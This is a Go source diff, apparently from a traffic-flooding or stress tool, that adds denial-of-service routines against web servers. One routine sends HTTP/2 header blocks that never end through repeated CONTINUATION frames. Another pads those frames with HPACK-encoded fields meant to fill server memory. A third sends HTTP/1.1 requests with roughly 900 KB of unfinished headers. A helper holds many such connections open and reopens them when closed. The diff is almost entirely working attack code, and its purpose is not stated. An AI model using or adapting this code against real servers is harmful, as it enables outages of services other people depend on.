@@ -8,6 +8,7 @@ import (
 	"crypto/x509"
 	"encoding/binary"
 	"errors"
+	"fmt"
 	"io"
 	"net"
 	"net/http"
@@ -149,29 +150,79 @@ func tlsPings(ctx context.Context, t *target, c *counter) error {
 	return flood(ctx, t, c, 20, true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })
 }
 
-func tlsPrefaces(ctx context.Context, t *target, c *counter) error {
-	part := make([]byte, 16<<10)
-	held := make(chan struct{}, t.sized(1000, 50))
+// begun has so many connections on which send has written something, however often one is closed.
+func begun(ctx context.Context, c *counter, conns int, send func(ctx context.Context) (net.Conn, error)) {
+	held := make(chan struct{}, conns)
 	c.swarm(ctx, 16, func(ctx context.Context, _ int) error {
 		select {
 		case held <- struct{}{}:
 		case <-ctx.Done():
 			return nil
 		}
-		f, _, err := t.framer(ctx, true)
+		conn, err := send(ctx)
 		if err != nil {
+			if conn != nil {
+				conn.Close()
+			}
 			<-held
 			return err
 		}
-		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request()}); err != nil {
-			return err
-		}
-		for range 15 {
-			if err := f.WriteContinuation(1, false, part); err != nil {
-				return err
-			}
-		}
+		go func() { // one that the member closes is replaced
+			stop := context.AfterFunc(ctx, func() { conn.Close() })
+			defer stop()
+			_, _ = io.Copy(io.Discard, conn)
+			conn.Close()
+			<-held
+		}()
 		return nil
+	})
+}
+
+// unended begins a header block, and sends parts of it that do not end it.
+func unended(ctx context.Context, t *target, parts int, part []byte) (net.Conn, error) {
+	conn, err := t.open(ctx)
+	if err != nil {
+		return nil, err
+	}
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		return conn, err
+	}
+	f := http2.NewFramer(conn, nil)
+	err = errors.Join(f.WriteSettings(), f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request()}))
+	for i := 0; i < parts && err == nil; i++ {
+		err = f.WriteContinuation(1, false, part)
+	}
+	return conn, err
+}
+
+func tlsPrefaces(ctx context.Context, t *target, c *counter) error {
+	part := make([]byte, 16<<10)
+	begun(ctx, c, t.sized(1000, 50), func(ctx context.Context) (net.Conn, error) { return unended(ctx, t, 15, part) })
+	return nil
+}
+
+func callHeaders(ctx context.Context, t *target, c *counter) error {
+	var b bytes.Buffer
+	e := hpack.NewEncoder(&b)
+	for range 70 {
+		_ = e.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 300), Sensitive: true}) // into memory
+	}
+	begun(ctx, c, t.sized(1000, 50), func(ctx context.Context) (net.Conn, error) { return unended(ctx, t, 15, b.Bytes()) })
+	return nil
+}
+
+func http1Headers(ctx context.Context, t *target, c *counter) error {
+	lines := []byte("GET / HTTP/1.1\r\nHost: x\r\n")
+	for i := 0; len(lines) < 900<<10; i++ {
+		lines = fmt.Appendf(lines, "%x: %s\r\n", i, strings.Repeat("y", 1000))
+	}
+	begun(ctx, c, t.sized(1000, 50), func(ctx context.Context) (net.Conn, error) {
+		conn, err := t.open(ctx)
+		if err != nil {
+			return nil, err
+		}
+		_, err = conn.Write(lines)
+		return conn, err
 	})
 	return nil
 }
